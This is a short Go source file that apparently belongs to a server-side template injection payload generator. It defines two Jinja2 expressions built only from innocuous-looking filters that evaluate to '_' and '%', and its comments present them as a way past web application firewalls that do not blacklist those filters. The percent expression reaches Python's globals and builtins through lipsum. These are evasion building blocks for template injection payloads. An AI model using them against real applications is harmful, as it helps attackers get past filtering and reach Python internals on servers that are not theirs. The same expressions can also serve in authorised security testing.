package ssti

// Canonical fixed expressions the rule set emits bit-exact. These are
// Jinja2-dialect expressions that evaluate, at runtime, to the
// single-character strings "_" and "%" respectively, using only filters
// (lipsum/escape/batch/list/first/last/join/dict) that a surprising number
// of template-injection WAFs do not think to blacklist.
const (
	// underscoreExpr evaluates to "_".
	underscoreExpr = "(lipsum|escape|batch(22)|list|first|last)"

	// percentExpr evaluates to "%". It embeds underscoreExpr verbatim as
	// the repeated lipsum|escape|batch(22)|list|first|last sub-expression.
	percentExpr = "(lipsum[(lipsum|escape|batch(22)|list|first|last)*2+dict(globals=x)|join+(lipsum|escape|batch(22)|list|first|last)*2][(lipsum|escape|batch(22)|list|first|last)*2+dict(builtins=x)|join+(lipsum|escape|batch(22)|list|first|last)*2][dict(chr=x)|join](37))"
)
